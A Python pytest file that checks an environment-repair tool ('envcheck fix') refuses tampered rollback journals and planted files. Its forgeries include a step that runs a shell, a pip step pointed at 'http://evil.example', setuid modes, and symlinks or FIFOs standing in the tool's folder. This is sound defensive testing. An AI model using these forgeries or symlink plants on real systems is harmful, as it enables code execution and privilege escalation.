"""The fix's own files, attacked: a journal copied with its venv, forged, cut short, newer, owned
by another user or writable by others; a record gone or naming paths outside the venv; a link,
FIFO, device or oversized file where the lock, the journal or its temporary file belongs. Driven
with real venvs, real pip and a local index; root runs the fix of a venv another uid owns.

Each case: exit 2 with one line saying why, before the first change (the venv's files, pip, and
every file outside the venv as they were), and never a hang.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from envcheck.fix.runner import journal
from tests import fix_env
from tests.fix_transactions import (
    ARGS,
    CPU_INDEX,
    files,
    fix_paused,
    variables,
)

HANG_S = 120  # far past any case: a run still going then is a hang


@pytest.fixture(scope="module")
def stub_index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = tmp_path_factory.mktemp("stub-index")
    stub = fix_env.stub_wheel(root / "wheels", "paddlepaddle", "3.3.1")
    fix_env.build_index(root, CPU_INDEX, [stub])
    with fix_env.serve(root) as url:
        yield url


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A venv holding a stub `paddlepaddle==3.0.0`, installed from a wheel since deleted: the
    plan replaces it, so the record keeps its files."""
    where = tmp_path_factory.mktemp("template") / "venv"
    python = fix_env.make_venv(where)
    old = fix_env.stub_wheel(where.parent / "stub", "paddlepaddle", "3.0.0")
    fix_env.pip(python, "install", "--no-deps", str(old))
    old.unlink()
    return where


def copy(template: Path, where: Path) -> str:
    subprocess.run(["cp", "-a", str(template), str(where)], check=True)
    return str(where / "bin" / "python")


def run_fix(env: dict[str, str], python: str, *args: str) -> tuple[int | None, str, str]:
    """`envcheck fix` as a process of its own, bounded: (exit code or None for a hang, out, err)."""
    argv = [sys.executable, "-m", "envcheck", "fix", "--json", "--quiet", "--python", python]
    try:
        run = subprocess.run(
            [*argv, *ARGS, *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=HANG_S,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return None, "", "hung"
    assert "Traceback" not in run.stderr, run.stderr
    return run.returncode, run.stdout, run.stderr


def error_of(out: str) -> str:
    message: str = json.loads(out)["error"]["message"]
    return message


def killed(tmp_path: Path, template: Path, index: str) -> tuple[Path, str, dict[str, str]]:
    """A venv whose `fix --yes` was SIGKILLed at its first step: its journal open."""
    venv = tmp_path / "venv"
    python = copy(template, venv)
    env = variables(tmp_path, index)
    proc = fix_paused(env, python, "step-1", "--yes")
    proc.kill()
    proc.wait(timeout=60)
    assert journal.unfinished(journal.home(str(venv))) is not None
    return venv, python, env


def forge(venv: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """What someone who may write the journal and knows its format does: change it, and compute
    its digest again."""
    path = journal.home(str(venv)) / journal.JOURNAL
    doc = json.loads(path.read_text())
    doc.pop("digest", None)
    change(doc)
    canonical = json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
    doc["digest"] = f"sha256:{hashlib.sha256(canonical.encode()).hexdigest()}"
    path.write_text(json.dumps(doc))


# -- the journal is bound to its target ---------------------------------------------------------


def test_a_journal_copied_with_its_venv_changes_neither(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """`cp -a venvA venvB` of a venv a killed fix left: B's --rollback and --resume are refused
    (its journal is A's), and neither A nor B changes."""
    a, _, env = killed(tmp_path, template, stub_index)
    b = tmp_path / "copy"
    subprocess.run(["cp", "-a", str(a), str(b)], check=True)
    before_a, before_b = files(a), files(b)
    for action in ("--rollback", "--resume", "--yes"):
        code, out, _ = run_fix(env, str(b / "bin" / "python"), action)
        assert code == 2, out
        assert f"it was written for {a}, not for {b}" in error_of(out)
    assert files(a) == before_a and files(b) == before_b


def _steps_run_a_shell(marker: Path) -> Callable[[dict[str, Any]], None]:
    def change(doc: dict[str, Any]) -> None:
        doc["steps"][0]["argv"] = ["/bin/sh", "-c", f"touch {marker}"]
        doc["steps"][0]["state"] = "pending"

    return change


FORGERIES: dict[str, tuple[str, Callable[[Path, Path], None], str]] = {
    # name: (the action, what is done to the venv given (venv, outside folder), the words)
    "a-step-that-runs-a-shell": (
        "--resume",
        lambda venv, out: forge(venv, _steps_run_a_shell(out / "ran")),
        "its step 1 is not a pip step a fix makes",
    ),
    "a-step-that-installs-from-elsewhere": (
        "--resume",
        lambda venv, out: forge(
            venv, lambda d: d["steps"][0]["argv"].extend(["--index-url", "http://evil.example"])
        ),
        "its step 1 names no packages a fix changes",
    ),
    "pip-among-the-kept": (
        "--rollback",
        lambda venv, out: forge(venv, lambda d: d["kept"].append("pip")),
        "it names pip, which a fix never changes",
    ),
    "a-stray-outside-the-venv": (
        "--rollback",
        lambda venv, out: forge(venv, lambda d: d["strays"].append(str(out / "victim"))),
        "outside {venv}",
    ),
    "edited-without-its-digest": (
        "--rollback",
        lambda venv, out: _edit(venv, lambda text: text.replace('"apply"', '"verify"')),
        "its digest does not match its content",
    ),
    "cut-short": (
        "--rollback",
        lambda venv, out: _edit(venv, lambda text: text[: len(text) // 2]),
        "it is not a whole JSON document (cut short?)",
    ),
    "from-a-newer-envcheck": (
        "--rollback",
        lambda venv, out: forge(venv, lambda d: d.update(version=99)),
        "it was written by a newer envcheck (journal version 99",
    ),
    "writable-by-its-group": (
        "--rollback",
        lambda venv, out: (journal.home(str(venv)) / journal.JOURNAL).chmod(0o664),
        "group or others may write it (mode 664)",
    ),
    "a-kept-file-outside-the-venv": (
        "--rollback",
        lambda venv, out: _manifest(venv, lambda m: m[0].update(path=str(out / "victim"))),
        "outside {venv}",
    ),
    "a-kept-manifest-changed-unsealed": (
        "--rollback",
        lambda venv, out: _manifest(venv, lambda m: m[0].update(mode=0o104755), seal=False),
        "it is not the file the fix wrote",
    ),
}


def _edit(venv: Path, change: Callable[[str], str]) -> None:
    path = journal.home(str(venv)) / journal.JOURNAL
    path.write_text(change(path.read_text()))


def _manifest(venv: Path, change: Callable[[list[Any]], None], *, seal: bool = True) -> None:
    """The record's kept-files manifest changed; with `seal`, the journal's seal of it too."""
    doc = json.loads((journal.home(str(venv)) / journal.JOURNAL).read_text())
    manifest = Path(doc["record"]) / "kept" / "manifest.json"
    entries = json.loads(manifest.read_text())
    change(entries)
    manifest.write_text(json.dumps(entries))
    if seal:
        digest = f"sha256:{hashlib.sha256(manifest.read_bytes()).hexdigest()}"
        forge(venv, lambda d: d["seals"].update({"kept/manifest.json": digest}))


@pytest.mark.parametrize("name", list(FORGERIES))
def test_a_forged_damaged_or_newer_journal_is_refused_before_any_change(
    tmp_path: Path, template: Path, stub_index: str, name: str
) -> None:
    action, damage, words = FORGERIES[name]
    venv, python, env = killed(tmp_path, template, stub_index)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("not the venv's\n")
    damage(venv, outside)
    before, frozen = files(venv), fix_env.freeze(python)
    code, out, _ = run_fix(env, python, action)
    assert code == 2, out
    message = error_of(out)
    assert words.format(venv=venv) in message and "nothing was changed" in message, message
    assert "\n" not in message
    assert files(venv) == before and fix_env.freeze(python) == frozen  # pip is still there
    assert (outside / "victim").read_text() == "not the venv's\n"
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]  # no step ran


def test_root_refuses_the_journal_of_a_venv_another_user_owns(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """The flow the docs name: root runs `fix` on a user's venv. The journal there is that
    user's (they may write it): root obeys none of it, and says whose it is."""
    venv, python, env = killed(tmp_path, template, stub_index)
    subprocess.run(["chown", "-R", "65534:65534", str(venv)], check=True)
    before = files(venv)
    for action in ("--rollback", "--resume", "--yes"):
        code, out, _ = run_fix(env, python, action)
        assert code == 2, out
        assert "it is owned by uid 65534, not by you (uid 0) nor root" in error_of(out)
    assert files(venv) == before


def test_a_record_that_is_gone_is_said_and_nothing_changes(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    venv, python, env = killed(tmp_path, template, stub_index)
    left = journal.unfinished(journal.home(str(venv)))
    assert left is not None
    shutil.rmtree(left.record)
    before = files(venv)
    code, out, _ = run_fix(env, python, "--rollback")
    assert code == 2, out
    assert "the record of that fix is gone" in error_of(out)
    assert "nothing was changed" in error_of(out)
    assert files(venv) == before


def test_a_kept_file_never_comes_back_setuid(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """The record's manifest says 04755 for a kept file (sealed, as the user who owns the
    record could): the file comes back, its mode without setuid or setgid."""
    venv, python, env = killed(tmp_path, template, stub_index)
    metadata = next(venv.glob("lib/python*/site-packages/paddlepaddle-3.0.0.dist-info/METADATA"))

    def setuid(entries: list[Any]) -> None:
        for e in entries:
            if e["path"] == str(metadata):
                e["mode"] = 0o106755

    _manifest(venv, setuid)
    metadata.unlink()  # as a step that replaced it would
    code, out, _ = run_fix(env, python, "--rollback")
    assert code == 0, out
    assert metadata.exists()
    assert stat.S_IMODE(metadata.stat().st_mode) == 0o755


# -- own files are opened as own files -----------------------------------------------------------


def _link(victim: Path) -> Callable[[Path], None]:
    return lambda where: where.symlink_to(victim)


PLANTED: dict[str, tuple[str, Callable[[Path, Path], None], tuple[str, ...]]] = {
    # name: (the file in .envcheck-fix, what is put there given (its path, a victim), fix's args)
    "lock-a-symlink": ("lock", lambda p, v: p.symlink_to(v), ("--yes",)),
    "lock-a-fifo": ("lock", lambda p, v: os.mkfifo(p), ("--yes",)),
    "journal-a-fifo": (journal.JOURNAL, lambda p, v: os.mkfifo(p), ()),
    "journal-a-symlink": (journal.JOURNAL, lambda p, v: p.symlink_to(v), ()),
    "journal-a-device": (
        journal.JOURNAL,
        lambda p, v: os.mknod(p, 0o644 | stat.S_IFCHR, os.makedev(1, 5)),
        (),
    ),
    "journal-oversized": (journal.JOURNAL, lambda p, v: os.truncate(_touch(p), 65 << 20), ()),
}


def _touch(path: Path) -> Path:
    path.touch(mode=0o644)
    return path


@pytest.mark.parametrize("name", list(PLANTED))
def test_a_link_fifo_device_or_oversized_file_in_the_fixs_folder_is_refused(
    tmp_path: Path, template: Path, stub_index: str, name: str
) -> None:
    """Never followed, written through, read or waited on: exit 2 naming it, the dry run too."""
    what, plant, args = PLANTED[name]
    python = copy(template, tmp_path / "venv")
    victim = tmp_path / "victim"
    victim.write_text("root's file\n")
    folder = journal.ensure_home(str(tmp_path / "venv"))
    plant(folder / what, victim)
    before = files(tmp_path / "venv")
    code, out, _ = run_fix(variables(tmp_path, stub_index), python, *args)
    assert code == 2, out
    assert str(folder / what) in error_of(out)
    assert victim.read_text() == "root's file\n"
    assert files(tmp_path / "venv") == before


def test_a_link_where_the_journals_temporary_file_was_is_never_written_through(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """`.journal.json.tmp` planted as a link to another file: the fix runs (its stub cannot
    train, so it rolls back) and the linked file stays as it was."""
    venv = tmp_path / "venv"
    python = copy(template, venv)
    victim = tmp_path / "victim"
    victim.write_text("root's file\n")
    folder = journal.ensure_home(str(venv))
    (folder / ".journal.json.tmp").symlink_to(victim)
    before = files(venv)
    _, out, _ = run_fix(variables(tmp_path, stub_index), python, "--yes")
    assert json.loads(out)["outcome"] == "rolled-back", out
    assert victim.read_text() == "root's file\n"
    assert files(venv) == before
    closed = journal.read_journal(folder)
    assert closed is not None and closed.state == "rolled-back"


# -- what is echoed -------------------------------------------------------------------------------


def test_the_indexs_credentials_are_never_echoed(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """`--paddle-index http://user:TOKEN@host/…`: the plan, which index answered, each step as
    it runs, pip's lines, the outcome and an error all say `user:****@`; the index is asked
    with the credentials (it answers), and nothing prints the token."""
    python = copy(template, tmp_path / "venv")
    secret = "s3cret-t0ken"
    mirror = stub_index.replace("http://", f"http://user:{secret}@")
    dead = f"http://user:{secret}@127.0.0.1:9"
    env = variables(tmp_path, stub_index, PIP_CONFIG_FILE=os.devnull, PIP_INDEX_URL=dead)
    said = []
    for index, args in (
        (mirror, ()),
        (mirror, ("--json",)),
        (mirror, ("--yes",)),
        (dead, ("--yes", "--json")),
    ):
        run = subprocess.run(
            [sys.executable, "-m", "envcheck", "fix", "--python", python, *ARGS, *args]
            + ["--paddle-index", index],
            env=env,
            capture_output=True,
            text=True,
            timeout=HANG_S,
            check=False,
        )
        assert "Traceback" not in run.stderr, run.stderr
        said.append(run.stdout + run.stderr)
    assert all(secret not in text for text in said), said
    assert f"answered by {stub_index.replace('http://', 'http://user:****@')}" in said[0]
    assert "$ " in said[2] and "user:****@127.0.0.1" in said[2], said[2]
    assert "user:****@127.0.0.1:9" in said[3], said[3]


def test_a_file_that_differed_from_its_record_before_is_back_and_said_so(
    tmp_path: Path, template: Path, stub_index: str
) -> None:
    """A kept file edited in place before the fix (no longer its RECORD hash): the rollback
    puts those very bytes back, and the proof compares them with the kept copy, so it says the
    environment is as it was, never "did NOT restore" over identical files."""
    venv = tmp_path / "venv"
    python = copy(template, venv)
    metadata = next(venv.glob("lib/python*/site-packages/paddlepaddle-3.0.0.dist-info/METADATA"))
    metadata.write_text(metadata.read_text() + "Summary: patched here\n")
    before = files(venv)
    code, out, _ = run_fix(variables(tmp_path, stub_index), python, "--yes")
    doc = json.loads(out)
    assert doc["outcome"] == "rolled-back", doc
    assert doc["rollback"]["differences"] == [] and doc["rollback"]["files_match"], doc
    assert code == doc["exit_code"] != 0 and files(venv) == before


def test_an_old_style_editable_install_allowed_to_change_comes_back(tmp_path: Path) -> None:
    """`setup.py develop` put `oldpkg` 1.0 here (an egg-link and an easy-install.pth line, no
    RECORD). The new build needs oldpkg >= 2; `--allow-change oldpkg` lets pip replace it, and
    the failed verification puts the editable install back: its egg-link, its line, its freeze."""
    root = tmp_path / "index"
    wheels = [
        fix_env.stub_wheel(root / "wheels", "paddlepaddle", "3.3.1", requires=["oldpkg>=2"]),
        fix_env.stub_wheel(root / "wheels", "oldpkg", "2.0"),
    ]
    fix_env.build_index(root, CPU_INDEX, wheels)
    project = tmp_path / "project"
    (project / "oldpkg").mkdir(parents=True)
    (project / "oldpkg" / "__init__.py").write_text("")
    (project / "setup.py").write_text(
        'from setuptools import setup\nsetup(name="oldpkg", version="1.0", packages=["oldpkg"])\n'
    )
    venv = tmp_path / "venv"
    python = fix_env.make_venv(venv)
    subprocess.run(
        [python, "setup.py", "develop"], cwd=project, check=True, capture_output=True, timeout=300
    )
    frozen = fix_env.freeze(python)
    assert f"-e {project}" in frozen, frozen
    before = files(venv)
    with fix_env.serve(root) as url:
        code, out, _ = run_fix(
            variables(tmp_path, url), python, "--yes", "--allow-change", "oldpkg"
        )
    doc = json.loads(out)
    assert [(c["name"], c["before"], c["after"]) for c in doc["changes"]] == [
        ("oldpkg", "1.0", "2.0"),
        ("paddlepaddle", None, "3.3.1"),
    ], doc
    assert doc["outcome"] == "rolled-back" and doc["rollback"]["freeze_matches"], doc
    assert code == doc["exit_code"] != 0
    assert fix_env.freeze(python) == frozen and files(venv) == before
